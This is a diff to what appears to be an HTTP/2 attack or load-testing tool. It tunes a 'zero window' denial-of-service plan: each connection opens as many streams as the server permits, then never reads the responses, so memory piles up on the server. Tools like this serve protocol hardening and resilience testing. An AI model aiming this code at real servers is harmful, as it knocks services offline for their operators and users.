@@ -236,12 +236,18 @@ function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan 
         unit: "requests never read",
         connections: options.connections ?? 20,
         connection: () => ({ settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] }),
+        // Within the rules: each connection opens as many streams as the server allows
+        // (up to 1000), ten at a time, then holds them all without ever opening its
+        // window, the way answers pile up for a reader that stopped reading.
         abuse: async (connection, running, next) => {
+          await Promise.race([connection.settingsReceived, connection.closed]);
+          const allowed = Math.min(ZERO_WINDOW_REQUESTS_PER_CONNECTION, connection.stats.serverSettings[Setting.MAX_CONCURRENT_STREAMS] ?? Infinity);
           let sent = 0;
-          while (running() && sent < ZERO_WINDOW_REQUESTS_PER_CONNECTION) {
-            if (!(await connection.send(Buffer.concat(Array.from({ length: 50 }, () => request(next())).flat())))) break;
-            sent += 50;
-            await yieldToLoop();
+          while (running() && sent < allowed) {
+            const batch = Math.min(10, allowed - sent);
+            if (!(await connection.send(Buffer.concat(Array.from({ length: batch }, () => request(next())).flat())))) break;
+            sent += batch;
+            await sleep(10);
           }
           return sent;
         },
